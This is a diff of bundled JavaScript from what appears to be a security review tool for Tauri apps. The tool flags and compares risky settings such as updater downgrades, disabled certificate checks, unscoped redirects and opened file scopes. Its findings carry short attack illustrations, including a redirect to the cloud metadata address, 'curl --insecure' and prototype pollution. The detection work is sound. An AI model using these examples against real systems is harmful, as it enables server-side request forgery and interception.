+  return [...found2, ...askedByPages(project, settings)];
+}
+var OLDER = {
+  extent: "older-version",
+  subject: "The updater",
+  action: "install a release older than the one that runs"
+};
+function askedByPages(project, settings) {
+  const locked = project.locked(CRATE);
+  if (locked === void 0 || locked.assumed) return [];
+  if (isBefore(locked.version, "2.8.0") || !isBefore(locked.version, "2.12.0")) return [];
+  return [
+    {
+      ...OLDER,
+      lever: "rollback-allowed",
+      extent: `${OLDER.extent}: asked by a page`,
+      subject: "A page with permissions of the updater",
+      action: "have the updater install a release older than the one that runs",
+      example: "check({ allowDowngrades: true })",
+      setting: `${CRATE} ${locked.version}`,
+      comesWith: "updater",
+      at: locked.at ?? settings.at
+    }
+  ];
+}
+function updaterKnows(project, since) {
+  const locked = project.locked(CRATE);
+  return locked === void 0 || locked.assumed || !isBefore(locked.version, since);
+}
+
+// src/readers/tauri-config/updater.ts
+function updaterOf(project, platform) {
+  const config = project.config(platform);
+  if (project.major === 2) return pick2(config, "plugins", "updater");
+  const updater2 = pick2(config, "tauri", "updater");
+  return asBoolean(member(updater2, "active")) === true ? updater2 : void 0;
+}
+var updater = (project, platform) => {
+  const settings = updaterOf(project, platform);
+  if (settings?.kind !== "object") return [];
+  const path = project.major === 1 ? "tauri.updater" : "plugins.updater";
+  return [
+    ...trustedKey(settings, path),
+    ...sources2(settings, path),
+    // The updater of Tauri 1 has no such settings.
+    ...project.major === 1 ? [] : [...unchecked(project, settings), ...rollback(project, settings)]
+  ];
+};
+function trustedKey(settings, path) {
+  const written2 = member(settings, "pubkey");
+  const text = asString(written2)?.trim() ?? "";
+  if (written2 === void 0 || text === "") return [];
+  const key = publicKey(text);
+  const number = keyNumber(key);
+  return [
+    {
+      lever: "key-trusted",
+      extent: key,
+      subject: number === void 0 ? "Whoever holds a new key" : `Whoever holds the key ${code(number)}`,
+      action: "sign what the app installs as its update",
+      example: `minisign -Vm update.tar.gz -P ${short(key)}`,
+      setting: `${path}.pubkey: ${JSON.stringify(short(text, 60))}`,
+      at: written2.at
+    }
+  ];
+}
+function sources2(settings, path) {
+  return stringsOf(member(settings, "endpoints")).map(({ value, at }) => {
+    const href = asUrl(value)?.href ?? value;
+    return {
+      lever: "source-added",
+      extent: href,
+      subject: `A server at ${code(value)}`,
+      action: "tell the app which update to install",
+      example: `GET ${short(href)}`,
+      setting: `${path}.endpoints: [${JSON.stringify(short(value))}]`,
+      at
+    };
+  });
+}
+var SWITCHES = [
+  [
+    "dangerousInsecureTransportProtocol",
+    "2.0.0",
+    "answer the updater over plain HTTP",
+    "GET http://example.com/latest.json"
+  ],
+  [
+    "dangerousAcceptInvalidCerts",
+    "2.10.0",
+    "answer the updater with any certificate",
+    "curl --insecure https://example.com/latest.json"
+  ],
+  [
+    "dangerousAcceptInvalidHostnames",
+    "2.10.0",
+    "answer the updater with the certificate of another host",
+    "curl --connect-to ::other.example https://example.com/latest.json"
+  ]
+];
+function unchecked(project, settings) {
+  return SWITCHES.flatMap(([key, since, action, example]) => {
+    const written2 = configKey(settings, key);
+    if (written2 === void 0 || asBoolean(written2) !== true || !updaterKnows(project, since)) return [];
+    return [
+      {
+        lever: "transport-unchecked",
+        extent: key,
+        subject: "Whoever is on the way between the app and its update server",
+        action,
+        example,
+        setting: `plugins.updater.${key}: true`,
+        at: written2.at
+      }
+    ];
+  });
+}
+
+// src/readers/tauri-config/plugin-settings.ts
+var FS = "tauri-plugin-fs";
+var HTTP = "tauri-plugin-http";
+function partsOf2(project, platform) {
+  const parts = ["app"];
+  if (project.major === 1) return parts;
+  if (dependsOn(project, FS, platform)) parts.push("fs plugin");
+  if (dependsOn(project, HTTP, platform)) parts.push("http plugin");
+  if (updaterOf(project, platform)?.kind === "object") parts.push("updater");
+  return parts;
+}
+var redirects = (project, platform) => {
+  if (project.major === 1 || !dependsOn(project, HTTP, platform)) return [];
+  const config = project.config(platform);
+  const checks = asBoolean(pick2(config, "plugins", "http", "scopeRedirects")) === true;
+  const locked = project.locked(HTTP);
+  if (checks && reads(locked, "2.7.0")) return [];
+  if (isAtLeast(locked, "3.0.0-alpha.2")) return [];
+  return [
+    {
+      lever: "redirects-unscoped",
+      extent: "",
+      subject: "A server that the app may call through the http plugin",
+      action: "send it on to any other URL",
+      example: "fetch('https://api.example.com/') → 302 http://169.254.169.254/",
+      ...settingOf2(config, checks, locked, "http", "scopeRedirects", "false"),
+      comesWith: "http plugin"
+    }
+  ];
+};
+var droppedFiles = (project, platform) => {
+  if (project.major === 1 || !dependsOn(project, FS, platform)) return [];
+  const config = project.config(platform);
+  const keepsOut = asBoolean(pick2(config, "plugins", "fs", "scopeDroppedPaths")) === false;
+  const locked = project.locked(FS);
+  if (keepsOut && reads(locked, "2.7.0")) return [];
+  return [
+    {
+      lever: "dropped-files-in-scope",
+      extent: "",
+      subject: "Every page with permissions of the fs plugin",
+      action: "reach files and whole folders that a person drops on any window",
+      example: "readDir('/home/user/dropped')",
+      ...settingOf2(config, keepsOut, locked, "fs", "scopeDroppedPaths", "true"),
+      comesWith: "fs plugin"
+    }
+  ];
+};
+function reads(locked, since) {
+  return locked === void 0 || locked.assumed || !isBefore(locked.version, since);
+}
+function isAtLeast(locked, version) {
+  return locked !== void 0 && !locked.assumed && !isBefore(locked.version, version);
+}
+function settingOf2(config, isSet, locked, plugin, key, byDefault) {
+  const { at } = nearestTo(config, "plugins", plugin, key);
+  if (isSet && locked !== void 0)
+    return { setting: `tauri-plugin-${plugin} ${locked.version}`, at: locked.at ?? at };
+  return { setting: `plugins.${plugin}.${key}: ${byDefault}`, at };
+}
+
+// src/readers/tauri-config/rust-code.ts
+function rustCode({ location, files }) {
+  return [...files.values()].filter(({ path }) => isRustOfApp(path, location.root)).flatMap(grantsIn);
+}
+var known = /* @__PURE__ */ new WeakMap();
+function grantsIn(file2) {
+  const before = known.get(file2);
+  if (before !== void 0) return before;
+  const grants = /uri_scheme_protocol|allow_(?:directory|file)/.test(file2.text) ? callsIn(file2) : [];
+  known.set(file2, grants);
+  return grants;
+}
+function callsIn(file2) {
+  const rust = rustSource(file2);
+  const source = { ...rust, constants: constantsIn(rust), placeOf: placesIn(file2) };
+  return [...schemes(file2, source), ...openedScopes(file2, source)];
+}
+function constantsIn({ code: code2, strings }) {
+  const constants = /* @__PURE__ */ new Map();
+  for (const found2 of code2.matchAll(/\b(?:const|static)\s+([A-Z0-9_]+)\s*:[^=;]{0,100}=\s*/g)) {
+    const text = strings.get(found2.index + found2[0].length)?.value;
+    if (text !== void 0) constants.set(found2[1] ?? "", text);
+  }
+  return constants;
+}
+var REGISTERS = /(?<!\bfn\s+)\bregister_(?:asynchronous_)?uri_scheme_protocol\s*(?:::\s*<[^()]{0,200}>\s*)?\(\s*/g;
+function schemes(file2, source) {
+  return Array.from(source.code.matchAll(REGISTERS), (call) => {
+    const { text, written: written2 } = argumentAt(file2, source, call.index + call[0].length);
+    const scheme = text === void 0 ? "a scheme that its code computes" : code(`${text}:`);
+    return {
+      lever: "local-scheme-added",
+      extent: text ?? written2,
+      subject: `Pages that the app itself serves under ${scheme}`,
+      action: "call what is granted to the app's own pages",
+      example: `location.href = '${short(text ?? "…", 80)}://localhost/'`,
+      setting: `${call[0].replace(/[\s(].*/s, "")}(${short(written2, 60)}, …)`,
+      at: source.placeOf(call.index, call.index + call[0].length)
+    };
+  });
+}
+var OPENS_OR_SCOPE = /\.\s*(allow_directory|allow_file)\s*\(\s*|\b(?:try_)?(fs_scope|asset_protocol_scope)\b|\b(?:tauri_plugin_fs|FsScope|scope\s*::\s*fs)\b/g;
+function openedScopes(file2, source) {
+  const found2 = [...source.code.matchAll(OPENS_OR_SCOPE)];
+  if (found2.every(([, method]) => method !== void 0)) return [];
+  let scope = found2.find((match) => match[2] !== void 0)?.[2] ?? "fs_scope";
+  return found2.flatMap((match) => {
+    const [, method, named2] = match;
+    scope = named2 ?? scope;
+    return method === void 0 ? [] : [openedScope(file2, source, match, scope)];
+  });
+}
+function openedScope(file2, source, call, scope) {
+  const [whole, method = ""] = call;
+  const argument = argumentAt(file2, source, call.index + whole.length);
+  const rest = source.code.slice(argument.end, argument.end + 40);
+  const isFlat = method === "allow_directory" && /^\s*,\s*false\b/.test(rest);
+  const isAsset = scope === "asset_protocol_scope";
+  const path = argument.text?.replaceAll(": ", ": ");
+  const extent = `${isAsset ? "asset" : "fs"} ${method}${path === void 0 ? "" : ` ${path}`}`;
+  const shown2 = `${short(argument.text ?? "…", 80)}${method === "allow_file" ? "" : isFlat ? "/a.txt" : "/a/b.txt"}`;
+  return {
+    lever: "scope-opened-by-code",
+    extent: isFlat ? `${extent}: its own files` : extent,
+    isWhole: !isFlat,
+    subject: isAsset ? "Any page of the app" : "Every page with permissions of the fs plugin",
+    action: actionOf(
+      method === "allow_file" ? "" : isFlat ? "the files in " : "everything in ",
+      argument.text
+    ),
+    example: isAsset ? `fetch(convertFileSrc('${shown2}'))` : `readTextFile('${shown2}')`,
+    setting: `${scope}().${method}(${short(argument.written, 60)})`,
+    at: source.placeOf(call.index, call.index + whole.length)
+  };
+}
+function actionOf(what2, path) {
+  return `reach ${what2}${path === void 0 ? "a path that the app's code computes" : code(path)}`;
+}
+var LONGEST_ARGUMENT = 400;
+function argumentAt(file2, { code: code2, strings, constants }, from) {
+  const end = from + lengthOfArgument(code2.slice(from, from + LONGEST_ARGUMENT));
+  const written2 = file2.text.slice(from, end).replace(/\s+/g, " ").trim();
+  const start = from + (/^[&\s]*/.exec(code2.slice(from, end))?.[0].length ?? 0);
+  const constant = /^&?([A-Z][A-Z0-9_]*)$/.exec(written2)?.[1] ?? "";
+  return { written: written2, text: strings.get(start)?.value ?? constants.get(constant), end };
+}
+function lengthOfArgument(code2) {
+  let depth = 0;
+  for (let i = 0; i < code2.length; i += 1) {
+    const character = code2[i] ?? "";
+    if (depth === 0 && (character === "," || character === ")")) return i;
+    if ("([{".includes(character)) depth += 1;
+    else if (")]}".includes(character)) depth -= 1;
+  }
+  return code2.length;
+}
+
+// src/readers/tauri-config/security.ts
+var prototypeGuard = (project, platform) => {
+  const config = project.config(platform);
+  const section2 = appSection(project);
+  const security = member(member(config, section2), "security");
+  if (asBoolean(configKey(security, "freezePrototype")) === true) return [];
+  return [
+    {
+      lever: "prototype-unfrozen",
+      extent: "",
+      subject: "Any script in the app's pages",
+      action: "change what all objects inherit, through `Object.prototype`",
+      example: "Object.prototype.toJSON = () => …",
+      setting: `${section2}.security.freezePrototype: false`,
+      comesWith: "app",
+      at: nearestTo(config, section2, "security", "freezePrototype").at
+    }
+  ];
+};
+var isolationGuard = (project, platform) => {
+  const config = project.config(platform);
+  const path = project.major === 1 ? ["tauri", "pattern", "use"] : ["app", "security", "pattern", "use"];
+  if (asString(pick2(config, ...path)) === "isolation") return [];
+  return [
+    {
+      lever: "isolation-removed",
+      extent: "",
+      subject: "Any script in the app's pages",
+      action: "send messages to Rust that the isolation hook doesn't see",
+      example: "window.__TAURI_INTERNALS__.invoke('…')",
+      setting: `${path.join(".")}: "brownfield"`,
+      comesWith: "app",
+      at: nearestTo(config, ...path).at
+    }
+  ];
+};
+
 // src/readers/tauri-config/reader.ts
-var LEVER_READERS = [globalApi];
+var LEVER_READERS = [
+  browserSwitches,
+  cargoFeatures,
+  chromiumLibrary,
+  crates,
+  deepLinks,
+  devtools,
+  droppedFiles,
+  globalApi,
+  headers,
+  isolationGuard,
+  prototypeGuard,
+  redirects,
+  remoteFrontend,
+  sidecars,
+  updater,
+  windows
+];
 var tauriConfig = {
   id: "tauri-config",
   layered: true,
-  wants: () => false,
-  read: (project) => ({ grants: onAllPlatforms(project), gaps: [] })
+  wants: (path, app) => isEntryPoint(path, app.root),
+  follows: (project, isChanged) => (path) => isRustOfApp(path, project.location.root) && isChanged(path),
+  read: (project) => ({
+    grants: [
+      ...partsOnPlatforms(project),
+      ...leversOnPlatforms(project),
+      ...rustCode(project).map((granted) => leverOf(granted, EVERY_PLATFORM))
+    ],
+    gaps: []
+  })
 };
-function onAllPlatforms(project) {
+function leversOnPlatforms(project) {
   const found2 = /* @__PURE__ */ new Map();
   for (const platform of PLATFORMS) {
-    for (const granted of LEVER_READERS.flatMap((read) => read(project, platform))) {
+    for (const granted of LEVER_READERS.flatMap((read2) => read2(project, platform))) {
       const name = JSON.stringify(granted);
       const [, platforms] = found2.get(name) ?? [granted, NO_PLATFORM];
       found2.set(name, [granted, platforms | platformSet(platform)]);
     }
   }
-  return [...found2.values()].map(([granted, platforms]) => ({ domain: "config", ...granted, platforms }));
+  return [...found2.values()].map(([granted, platforms]) => leverOf(granted, platforms));
+}
+function leverOf(granted, platforms) {
+  return { domain: "config", kind: "lever", isWhole: false, comesWith: null, ...granted, platforms };
+}
+function partsOnPlatforms(project) {
+  const found2 = /* @__PURE__ */ new Map();
+  for (const platform of PLATFORMS) {
+    for (const part of partsOf2(project, platform))
+      found2.set(part, (found2.get(part) ?? NO_PLATFORM) | platformSet(platform));
+  }
+  return [...found2].map(([part, platforms]) => ({ domain: "config", kind: "part", part, platforms }));
 }
 
 // src/readers/index.ts
@@ -24068,7 +25745,7 @@ function isPlatformOverlay(path) {
 }
 function extraBuilds(app, files) {
   const started = configuredBuilds(app, files);
-  const known = new Set(started.map(({ key }) => key));
+  const known2 = new Set(started.map(({ key }) => key));
   const beside = [...files.values()].filter(
     ({ path }) => folderOf(path) === app.root && path !== app.config && !isPlatformOverlay(path) && !OTHER_CONFIGS.has(baseName(path)) && EXTRA_LAYER.test(baseName(path))
   );
@@ -24076,14 +25753,14 @@ function extraBuilds(app, files) {
     ...started,
     ...beside.flatMap((file2) => {
       const key = baseName(file2.path);
-      return known.has(key) ? [] : [{ key, name: key, layers: [{ file: file2, inline: false }] }];
+      return known2.has(key) ? [] : [{ key, name: key, layers: [{ file: file2, inline: false }] }];
     })
   ];
 }
 var OTHER_CONFIGS = /* @__PURE__ */ new Set(["tauri.conf.json", "tauri.conf.json5", "Tauri.toml"]);
 function configLayers(app, files, json5, extra) {
   const gaps2 = [];
-  const read = (file2, inline = false) => {
+  const read2 = (file2, inline = false) => {
     if (file2 === void 0) return void 0;
     const parsed3 = inline ? parseJson(file2, "json5") : parseFile(file2, { json5 });
     if (parsed3.ok) return parsed3.value;
@@ -24096,12 +25773,12 @@ function configLayers(app, files, json5, extra) {
     );
     return void 0;
   };
-  const base = read(files.get(app.config)) ?? emptyConfig(app.config);
-  const last2 = extra.map(({ file: file2, inline }) => read(file2, inline));
+  const base = read2(files.get(app.config)) ?? emptyConfig(app.config);
+  const last2 = extra.map(({ file: file2, inline }) => read2(file2, inline));
   const of = /* @__PURE__ */ new Map();
   for (const platform of PLATFORMS) {
     const overlay = overlayNames(platform).map((name) => files.get(inFolder(app.root, name))).find((file2) => file2 !== void 0);
-    const patches = [read(overlay), ...last2].filter((patch) => patch !== void 0);
+    const patches = [read2(overlay), ...last2].filter((patch) => patch !== void 0);
     of.set(platform, patches.reduce(mergePatch, base));
   }
   return { of, gaps: gaps2 };
@@ -24183,9 +25860,9 @@ async function readSide(tree, wanted, shared) {
   const missing = [];
   let bytes = 0;
   for (const entry of wanted) {
-    const known = shared.get(keyOf2(entry));
+    const known2 = shared.get(keyOf3(entry));
     bytes += entry.size;
-    if (known !== void 0) files.set(entry.path, known);
+    if (known2 !== void 0) files.set(entry.path, known2);
     else if (entry.size > TREE_LIMITS.fileBytes || bytes > TREE_LIMITS.totalBytes) {
       gaps2.push(
         gapIn(
@@ -24204,13 +25881,13 @@ async function readSide(tree, wanted, shared) {
       gaps2.push(gapIn(entry.path, "unreadable", unreadable(entry.path, bytesOfFile !== void 0)));
     else {
       const file2 = { path: entry.path, id: entry.id, text };
-      shared.set(keyOf2(entry), file2);
+      shared.set(keyOf3(entry), file2);
       files.set(entry.path, file2);
     }
   }
   return { files, gaps: gaps2 };
 }
-function keyOf2({ path, id }) {
+function keyOf3({ path, id }) {
   return `${id}\0${path}`;
 }
 function unreadable(path, present) {
@@ -24301,8 +25978,8 @@ function namedBy(app, wanted, files, entries, isChanged) {
     projectFollows(app, project.files),
     ...readers.flatMap((reader) => reader.follows?.(project, isChanged) ?? [])
   ];
-  const known = new Set(wanted.map(({ path }) => path));
-  return entries.filter(({ path }) => !known.has(path) && names2.some((isNamed) => isNamed(path)));
+  const known2 = new Set(wanted.map(({ path }) => path));
+  return entries.filter(({ path }) => !known2.has(path) && names2.some((isNamed) => isNamed(path)));
 }
 function filesOf(wanted, files) {
   return new Map(
@@ -24405,10 +26082,10 @@ function pairApps(base, head, identityOf5) {
       if (left.size === 0) break;
       const mine = keysOf(identityOf5("head", app));
       const matches2 = (side) => (other) => keysOf(identityOf5(side, other)).some((key) => mine.includes(key));
-      const candidates = [...left].filter(matches2("base"));
+      const candidates2 = [...left].filter(matches2("base"));
       const rivals = [...right].filter(matches2("head"));
-      const [only] = candidates;
-      if (only !== void 0 && candidates.length === 1 && rivals.length === 1) pairUp(only, app);
+      const [only] = candidates2;
+      if (only !== void 0 && candidates2.length === 1 && rivals.length === 1) pairUp(only, app);
     }
   }
   const [gone, come] = [[...left], [...right]];
@@ -24431,7 +26108,7 @@ function applyPolicy(found2, { rules: rules2 }) {
     if (setting === "off") off.set(finding.rule, (off.get(finding.rule) ?? 0) + 1);
     else findings.push(setting === void 0 ? finding : { ...finding, severity: setting });
   }
-  const turnedOff = [...off].map(([rule29, count]) => ({ rule: rule29, findings: count }));
+  const turnedOff = [...off].map(([rule54, count]) => ({ rule: rule54, findings: count }));
   return { findings, turnedOff: turnedOff.sort((a, b) => a.rule < b.rule ? -1 : 1) };
 }
 function verdictOf(findings, gaps2, { failOn }) {
@@ -24439,38 +26116,117 @@ function verdictOf(findings, gaps2, { failOn }) {
   return gaps2.some(({ blocking }) => blocking) ? "incomplete" : "pass";
 }
 
+// src/compare/config/extents.ts
+var WITHIN = ": ";
+var MOST_WHOLES = 4;
+var Extents = class {
+  #of = /* @__PURE__ */ new Map();
+  #wholes = /* @__PURE__ */ new Map();
+  constructor(grants) {
+    for (const grant of grants) {
+      add(this.#of, grant);
+      if (grant.isWhole) add(this.#wholes, grant);
+    }
+  }
+  /** The platforms on which it, or a whole that it is part of, is let happen. */
+  platformsOf(asked) {
+    const itself = this.#of.get(asked.lever)?.get(asked.extent) ?? NO_PLATFORM;
+    return itself | this.platformsOfWholes(asked);
+  }
+  /** The platforms on which something that it is only a part of is let happen. */
+  platformsOfWholes({ lever, extent }) {
+    const wholes = this.#wholes.get(lever);
+    if (wholes === void 0) return NO_PLATFORM;
+    return wholesOf(extent).reduce((set2, whole) => set2 | (wholes.get(whole) ?? NO_PLATFORM), NO_PLATFORM);
+  }
+  extentsByLever() {
+    return new Map([...this.#of].map(([lever, known2]) => [lever, [...known2.keys()]]));
+  }
+};
+function add(to, { lever, extent, platforms }) {
+  const known2 = to.get(lever) ?? /* @__PURE__ */ new Map();
+  to.set(lever, known2.set(extent, (known2.get(extent) ?? NO_PLATFORM) | platforms));
+}
+function wholesOf(extent) {
+  if (extent === "") return [];
+  const wholes = [""];
+  for (let end = extent.indexOf(WITHIN); end >= 0 && wholes.length < MOST_WHOLES; ) {
+    wholes.push(extent.slice(0, end));
+    end = extent.indexOf(WITHIN, end + WITHIN.length);
+  }
+  return wholes;
+}
+var indexes = /* @__PURE__ */ new WeakMap();
+function candidates(grants, lever, extent) {
+  const index = indexes.get(grants) ?? indexOf2(grants);
+  indexes.set(grants, index);
+  const exact = index.exact.get(JSON.stringify([lever, extent])) ?? [];
+  const wholes = index.wholes.get(lever) ?? [];
+  return [
+    ...exact,
+    ...wholes.filter((whole) => whole.extent === "" || extent.startsWith(`${whole.extent}${WITHIN}`))
+  ];
+}
+function indexOf2(grants) {
+  const levers = leversIn(grants);
+  return {
+    exact: Map.groupBy(levers, ({ lever, extent }) => JSON.stringify([lever, extent])),
+    wholes: Map.groupBy(
+      levers.filter(({ isWhole }) => isWhole),
+      ({ lever }) => lever
+    )
+  };
+}
+function partsIn(grants) {
+  const parts = /* @__PURE__ */ new Map();
+  for (const grant of grants) {
+    if (grant.kind === "part")
+      parts.set(grant.part, (parts.get(grant.part) ?? NO_PLATFORM) | grant.platforms);
+  }
+  return parts;
+}
+function leversIn(grants) {
+  return grants.filter((grant) => grant.kind === "lever");
+}
+
 // src/compare/config/comparison.ts
 var configComparison = {
   domain: "config",
   compare(base, head) {
-    const widened = gained(base, head).map((grant) => changeOf(grant, "widened", base.length === 0));
-    const narrowed = gained(head, base).map((grant) => changeOf(grant, "narrowed", false));
-    return { changes: [...widened, ...narrowed], gaps: [] };
+    return {
+      changes: [...gained(base, head, "widened"), ...gained(head, base, "narrowed")],
+      gaps: []
+    };
   },
   allows(grants, { witness, platforms }) {
     const platform = witness.platform === "any" ? platformsOf(platforms)[0] : witness.platform;
-    return grants.some(
-      (grant) => grant.lever === witness.lever && grant.extent === witness.extent && hasPlatform(grant.platforms, platform ?? PLATFORMS[0])
+    return candidates(grants, witness.lever, witness.extent).some(
+      (grant) => hasPlatform(grant.platforms, platform ?? PLATFORMS[0])
     );
   }
 };
-function gained(before, after) {
-  const had = /* @__PURE__ */ new Map();
-  for (const grant of before)
-    had.set(nameOf2(grant), (had.get(nameOf2(grant)) ?? NO_PLATFORM) | grant.platforms);
+function gained(before, after, direction) {
+  const had = new Extents(leversIn(before));
+  const parts = partsIn(before);
   const found2 = /* @__PURE__ */ new Map();
-  for (const grant of after) {
-    const name = nameOf2(grant);
-    const known = found2.get(name);
-    const platforms = grant.platforms & ~(had.get(name) ?? NO_PLATFORM) | (known?.platforms ?? NO_PLATFORM);
-    if (platforms !== NO_PLATFORM) found2.set(name, { ...known ?? grant, platforms });
+  for (const grant of leversIn(after)) {
+    const name = JSON.stringify([grant.lever, grant.extent]);
+    const known3 = found2.get(name);
+    const possible = grant.comesWith === null ? EVERY_PLATFORM : parts.get(grant.comesWith) ?? NO_PLATFORM;
+    const fresh = grant.platforms & ~had.platformsOf(grant) & possible;
+    const platforms = fresh | (known3?.platforms ?? NO_PLATFORM);
+    if (platforms !== NO_PLATFORM) found2.set(name, { ...known3 ?? grant, platforms });
   }
-  return [...found2.values()];
+  const wholes = new Extents(found2.values());
+  const known2 = had.extentsByLever();
+  return [...found2.values()].flatMap((grant) => {
+    const platforms = grant.platforms & ~wholes.platformsOfWholes(grant);
+    if (platforms === NO_PLATFORM) return [];
+    const context = { before: known2.get(grant.lever) ?? [], appIsNew: before.length === 0 };
+    return [{ ...changeOf({ ...grant, platforms }, direction), ...context }];
+  });
 }
-function nameOf2({ lever, extent }) {
-  return JSON.stringify([lever, extent]);
-}
-function changeOf({ lever, extent, platforms, subject, action, example, setting, at }, direction, appIsNew) {
+function changeOf({ lever, extent, platforms, subject, action, example, setting, at }, direction) {
   const where = inWords(platforms);
   const on2 = where === "" ? "" : ` ${where}`;
   const [platform] = platformsOf(platforms);
@@ -24494,8 +26250,7 @@ function changeOf({ lever, extent, platforms, subject, action, example, setting,
     identity: JSON.stringify([lever, extent, platformsOf(platforms)]),
     lever,
     extent,
-    platforms,
-    appIsNew
+    platforms
   };
 }
 
@@ -24554,10 +26309,10 @@ function chainOf(act) {
 // src/compare/csp/grouping.ts
 var MOST_HOSTS = 4;
 function group(all) {
-  const groups2 = Object.values(Object.groupBy(all, keyOf3)).map((members2) => groupOf(members2 ?? []));
+  const groups2 = Object.values(Object.groupBy(all, keyOf4)).map((members2) => groupOf(members2 ?? []));
   return listManyHosts(groups2.filter((each) => !prefetchOnly(each, groups2))).sort(byClass);
 }
-function keyOf3({ found: found2 }) {
+function keyOf4({ found: found2 }) {
   const { allowing, allowedBy, refusedBy, attempt: attempt2 } = found2;
   if (allowing.grant.header === null) return "no policy";
   const refusing = refusedBy?.directive;
@@ -24709,8 +26464,8 @@ function selfMatches(url, self) {
   const upgraded = url.scheme === "https" || url.scheme === "wss" || self.scheme === "http" && url.scheme === "ws";
   return isWeb(self.scheme) && upgraded && (url.port === self.port || isDefaultPort(url) && isDefaultPort(self));
 }
-function schemesMatch(schemes, scheme, engine) {
-  for (const listed of schemes) if (schemeMatch(listed, scheme, engine) !== "no") return true;
+function schemesMatch(schemes2, scheme, engine) {
+  for (const listed of schemes2) if (schemeMatch(listed, scheme, engine) !== "no") return true;
   return false;
 }
 function* suffixesOf(host) {
@@ -24846,7 +26601,7 @@ function parseSourceList(directive, words3, own, engine) {
   const keywords = /* @__PURE__ */ new Set();
   const nonces = /* @__PURE__ */ new Set();
   const hashes = /* @__PURE__ */ new Set();
-  const schemes = /* @__PURE__ */ new Set();
+  const schemes2 = /* @__PURE__ */ new Set();
   const byHost = /* @__PURE__ */ new Map();
   const bySuffix = /* @__PURE__ */ new Map();
   const anyHost = [];
@@ -24859,7 +26614,7 @@ function parseSourceList(directive, words3, own, engine) {
     if (source.kind === "keyword") keywords.add(source.word);
     if (source.kind === "nonce") nonces.add(source.value);
     if (source.kind === "hash") hashes.add(canonicalHash(word));
-    if (source.kind === "scheme") schemes.add(source.scheme);
+    if (source.kind === "scheme") schemes2.add(source.scheme);
     if (source.kind === "host") {
       if (isStar(source)) star = true;
       else if (!source.wildcard) addTo(byHost, source.host, source);
@@ -24876,7 +26631,7 @@ function parseSourceList(directive, words3, own, engine) {
     nonces,
     hashes,
     guarded,
-    schemes,
+    schemes: schemes2,
     star,
     byHost,
     bySuffix,
@@ -24901,8 +26656,8 @@ function urlsOf(source, setting) {
 }
 function anyUrls(setting) {
   const { document } = setting;
-  const schemes = ["https", "http", "wss", "ws", "data", "blob", "asset", "ipc", "custom"];
-  const urls2 = schemes.flatMap((scheme) => urlsOfScheme(scheme, setting));
+  const schemes2 = ["https", "http", "wss", "ws", "data", "blob", "asset", "ipc", "custom"];
+  const urls2 = schemes2.flatMap((scheme) => urlsOfScheme(scheme, setting));
   return [...urls2, ...urlsOfSelf(document, setting)].map((url) => ({ url, source: null }));
 }
 function textsOf(source, setting) {
@@ -24912,11 +26667,11 @@ function textsOf(source, setting) {
   }
   if (source.kind !== "host") return [];
   if (isStar(source)) {
-    const schemes2 = ["https", "http", "wss", "ws", setting.document.origin.scheme];
-    return [.../* @__PURE__ */ new Set([...schemes2, "data"])].flatMap((scheme) => urlsOfScheme(scheme, setting));
+    const schemes3 = ["https", "http", "wss", "ws", setting.document.origin.scheme];
+    return [.../* @__PURE__ */ new Set([...schemes3, "data"])].flatMap((scheme) => urlsOfScheme(scheme, setting));
   }
-  const schemes = schemesOf(source.scheme ?? setting.document.origin.scheme, setting);
-  return schemes.flatMap(
+  const schemes2 = schemesOf(source.scheme ?? setting.document.origin.scheme, setting);
+  return schemes2.flatMap(
     (scheme) => hostsOf(source, setting.names, setting.crossed).flatMap(
       (host) => portsOf(source, scheme, setting).flatMap(
         (port) => pathsOf(source, setting).map((path) => `${scheme}://${host}${port}${path}`)
@@ -24946,9 +26701,9 @@ function urlsOfScheme(scheme, setting) {
 function urlsOfSelf(document, setting) {
   const { scheme, host } = document.origin;
   const file2 = setting.names.fileIn("/", EXTENSIONS[setting.class] ?? "html");
-  const schemes = isNetwork(scheme) ? [scheme, "https", "wss", "ws"] : [scheme];
+  const schemes2 = isNetwork(scheme) ? [scheme, "https", "wss", "ws"] : [scheme];
   const own = `${originText(document)}${file2}`;
-  return [.../* @__PURE__ */ new Set([own, ...schemes.map((each) => `${each}://${host}${file2}`)])];
+  return [.../* @__PURE__ */ new Set([own, ...schemes2.map((each) => `${each}://${host}${file2}`)])];
 }
 function hostsOf(source, names2, crossed) {
   if (!source.wildcard) return [source.host];
@@ -25177,11 +26932,11 @@ function wordsOf(page, pick3) {
 
 // src/compare/csp/names.ts
 function namesIn3(pages) {
-  const sources2 = pages.flatMap(hostSourcesOf);
-  const hosts = new Set(sources2.map((source) => source.host).filter((host) => host !== ""));
+  const sources3 = pages.flatMap(hostSourcesOf);
+  const hosts = new Set(sources3.map((source) => source.host).filter((host) => host !== ""));
   for (const page of pages) hosts.add(parseTarget(page.grant.document)?.host ?? "");
-  const ports = new Set(sources2.map((source) => source.port).filter((port) => typeof port === "number"));
-  const rawPaths = new Set(sources2.flatMap((source) => source.path?.raw ?? []));
+  const ports = new Set(sources3.map((source) => source.port).filter((port) => typeof port === "number"));
+  const rawPaths = new Set(sources3.flatMap((source) => source.path?.raw ?? []));
   const paths3 = new Set([...rawPaths].map(decodeOnce));
   const policyNames = new Set(
     pages.flatMap((page) => page.policies.flatMap((policy) => policy.get("trusted-types")?.words ?? []))
@@ -25248,8 +27003,8 @@ function parsePage(grant) {
   const texts = grant.header.split(",");
   if (texts.length > CSP_LIMITS.policies) return void 0;
   const policies = texts.map((text) => parsePolicy(text, own, grant.engine));
-  const sources2 = policies.flatMap((policy) => [...policy.values()].map((list) => list.words.length));
-  if (sources2.reduce((sum, count) => sum + count, 0) > CSP_LIMITS.sources) return void 0;
+  const sources3 = policies.flatMap((policy) => [...policy.values()].map((list) => list.words.length));
+  if (sources3.reduce((sum, count) => sum + count, 0) > CSP_LIMITS.sources) return void 0;
   return { grant, policies: policies.filter((policy) => policy.size > 0) };
 }
 function parsePolicy(text, own, engine) {
@@ -25636,7 +27391,7 @@ var DOING = {
   upgrade: "send requests without encryption",
   report: "report what was blocked"
 };
-function actionOf(group2) {
+function actionOf2(group2) {
   const { act } = group2.main.found.attempt;
   const [first, ...others] = group2.targets;
   if (first === void 0 || group2.extent === "none") return DOING[act.class];
@@ -25658,8 +27413,8 @@ function refusedInWords(page, list) {
 }
 function listInCode(page, list) {
   const words3 = list.words.filter((word) => !page.grant.own.includes(word));
-  const added = list.guarded && words3.length < list.words.length ? " with what Tauri adds to it" : "";
-  return `${code([list.directive, ...words3].join(" "), 240)}${added}`;
+  const added2 = list.guarded && words3.length < list.words.length ? " with what Tauri adds to it" : "";
